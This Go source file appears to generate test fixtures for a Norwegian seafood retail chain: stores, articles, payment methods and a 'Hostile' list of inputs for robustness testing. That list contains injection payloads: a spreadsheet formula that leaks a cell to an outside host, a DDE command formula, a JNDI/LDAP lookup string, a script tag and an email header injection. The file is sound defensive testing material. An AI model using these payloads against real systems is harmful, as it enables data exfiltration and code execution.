package shop

// Store is one of the chain's.
type Store struct {
	ID, Name, City, Postal, Street string
	GLN, Terminal                  string
	Seller                         string // store.payout_destination_id
	weight                         int
}

// Article is something on the counter; price in øre, per piece or per kilo.
type Article struct {
	ID, Name string
	price    int64
	byWeight bool
	vat      int // percent
}

// Method is a way to pay.
type Method struct {
	Product, Type string
	brands        []string // of the card, where there is one
	currency      string   // the only one it takes; empty for any
	inStore       bool
	provider      string // who pays its events out; empty: nobody says
	Gift          bool   // paid with a gift card
	weight        int
}

// Catalog is what does not change from day to day.
type Catalog struct {
	Stores  []Store
	Sellers []string
	Hostile []string // texts that break careless programs: spreadsheets, HTML, CSV, terminals, fonts

	articles  []Article
	methods   []Method
	customers customers

	storeWeights, methodWeights []int
}

// The indexes of the stores that the day's plans name.
const (
	oslo = iota
	bergen
	trondheim
	tromso
	alesund
	webshop
)

func newCatalog() *Catalog {
	c := &Catalog{Stores: newStores(), Sellers: newSellers(), articles: newArticles(), methods: newMethods(), customers: newCustomers(), Hostile: newHostile()}
	for _, s := range c.Stores {
		c.storeWeights = append(c.storeWeights, s.weight)
	}
	for _, m := range c.methods {
		c.methodWeights = append(c.methodWeights, m.weight)
	}
	return c
}

func newStores() []Store {
	return []Store{
		{ID: "sc029", Name: "Fjordfisk Oslo", City: "Oslo", Postal: "0150", Street: "Fiskebrygga 4", GLN: "7080000000291", Terminal: "T0292", weight: 36},
		{ID: "sc031", Name: "Fjordfisk Bergen", City: "Bergen", Postal: "5014", Street: "Torgkaien 12", GLN: "7080000000314", Terminal: "T0311", weight: 14},
		{ID: "sc044", Name: "Fjordfisk Trondheim", City: "Trondheim", Postal: "7010", Street: "Ravnkaia 3", GLN: "7080000000444", Terminal: "T0440", weight: 12},
		{ID: "sc058", Name: "Fjordfisk Tromsø", City: "Tromsø", Postal: "9008", Street: "Ishavskaia 1", GLN: "7080000000581", Terminal: "T0583", Seller: "fjordfisk-tromso", weight: 8},
		{ID: "sc063", Name: `Fjordfisk Ålesund; «Ærfuglen» Æsj & "Søn" 🐟`, City: "Ålesund", Postal: "6002", Street: "Æglesgata 9", GLN: "7080000000635", Terminal: "T0630", weight: 8},
		{ID: "sc100", Name: "Fjordfisk nettbutikk", City: "Oslo", Postal: "0150", Street: "Fiskebrygga 4", GLN: "7080000001007", weight: 22},
	}
}

func newSellers() []string {
	return []string{"P00000001", "P00000002", "P00000003", "fiskehandel-bergen", "lofoten-torrfisk", "roykeriet-alesund", "fjordfisk-tromso"}
}

func newArticles() []Article {
	return []Article{
		{"1001", "Laksefilet, fersk", 29900, true, 15}, {"1002", "Torskefilet uten skinn", 32900, true, 15},
		{"1003", "Reker i skall, ferske", 24900, true, 15}, {"1004", "Kveiteskiver", 44900, true, 15},
		{"1005", "Steinbitfilet", 35900, true, 15}, {"1006", "Breiflabbhale", 52900, true, 15},
		{"2001", "Fiskekaker, 4 stk.", 8900, false, 15}, {"2002", "Fiskegrateng, familie", 15900, false, 15},
		{"2003", "Røkelaks i skiver, 200 g", 11950, false, 15}, {"2004", "Gravlaks med sennepssaus", 13900, false, 15},
		{"2005", "Rakfisk, Valdres, 600 g", 24500, false, 15}, {"2006", "Lutefisk", 18900, true, 15},
		{"2007", "Kongekrabbe, klør", 89900, true, 15}, {"2008", "Kamskjell, 10 stk.", 34900, false, 15},
		{"2009", "Blåskjell, 1 kg", 7990, false, 15}, {"2010", "Skalldyrfat for 4 personer", 149900, false, 15},
		{"2011", "Tørrfisk fra Lofoten, 400 g", 27900, false, 15}, {"2012", "Klippfisk, hel", 39900, false, 15},
		{"2013", "Sild i kryddereddik", 6490, false, 15}, {"2014", "Kaviar på tube", 3990, false, 15},
		{"3001", "Fiskesuppe, servert", 18900, false, 25}, {"3002", "Fish and chips, take away", 16900, false, 15},
		{"4001", "Filetkniv, 18 cm", 54900, false, 25}, {"4002", "Kokebok «Havets bord»", 44900, false, 0},
		{"4003", "Rekebåt, guidet tur med mat", 69500, false, 12}, {"4004", "Bærenett av fiskegarn", 9900, false, 25},
	}
}

func newMethods() []Method {
	cards := []string{"Visa", "Visa", "Visa", "Mastercard", "Mastercard", "American Express", "Maestro"}
	return []Method{
		{Product: "payex", Type: "payex.creditcard", brands: cards, provider: "payex", weight: 30},
		{Product: "vipps", Type: "vipps", provider: "vipps", currency: "NOK", weight: 14},
		{Product: "payex", Type: "payex.vipps", brands: cards[:5], provider: "payex", currency: "NOK", weight: 8},
		{Product: "dintero_psp", Type: "dintero_psp.vipps", brands: cards[:5], provider: "payout", currency: "NOK", weight: 6},
		{Product: "dintero_psp", Type: "dintero_psp.creditcard", brands: cards, provider: "payout", weight: 5},
		{Product: "collector", Type: "collector.invoice", currency: "NOK", weight: 8},
		{Product: "klarna", Type: "klarna.klarna", weight: 7},
		{Product: "swish", Type: "swish.swish", currency: "SEK", weight: 4},
		{Product: "bambora", Type: "bambora.applepay", brands: cards[:5], provider: "bambora", weight: 5},
		{Product: "payex", Type: "payex.googlepay", brands: cards[:5], provider: "payex", weight: 2},
		{Product: "seitatech", Type: "seitatech.in_person", brands: cards, currency: "NOK", inStore: true, weight: 9},
		{Product: "dintero", Type: "dintero.wallets", currency: "NOK", Gift: true, weight: 3},
	}
}

// The indexes of the methods that the day's plans name.
const (
	card = iota
	vipps
	payexVipps
	pspVipps
	pspCard
	walley
	klarna
	swish
	applePay
	googlePay
	inPerson
	giftCard
)

func newHostile() []string {
	long := make([]byte, 300)
	for i := range long {
		long[i] = alphabet[(i*7)%62]
	}
	return []string{
		`=HYPERLINK("http://x/?"&A1)`, "+47 999 99 999", "-10", "@user", `"`, ";", ",", `ordre "hasteordre"; Bergen, dør 3`,
		"linje 1\nlinje 2", "kolonne\tkolonne", "\t=1+1", "\r\nBcc: x@example.com", "piip\u0007 esc\u001b[31m rødt\u0001", string(long),
		"<script>alert('fisk')</script>", "FF-\u202eslaer\u202c-1", "Z\u0351\u036b\u0343\u036a\u0302a\u0314\u0311\u030f\u036fl\u034c\u0366\u0343\u0364g\u0366\u035b\u0352o\u0308\u0303\u0300",
		"🐟🦐👩‍👩‍👧 🇳🇴", "طلب رقم ٤٢", "הזמנה 42", "ordre\u200b\u00a0\u2028ny linje", "００１＝１＋１", "=cmd|' /C calc'!A0", "{{.}} %d%s%n ${jndi:ldap://x}",
		`\\(tekst\\) /JS`, "   ", "ÆØÅ æøå ÄÖ äö Ð þ ß", "00012345678901234567", "2026-11-20", "1E5", "'apostrof", "Blåbær, 漁師 魚屋",
	}
}
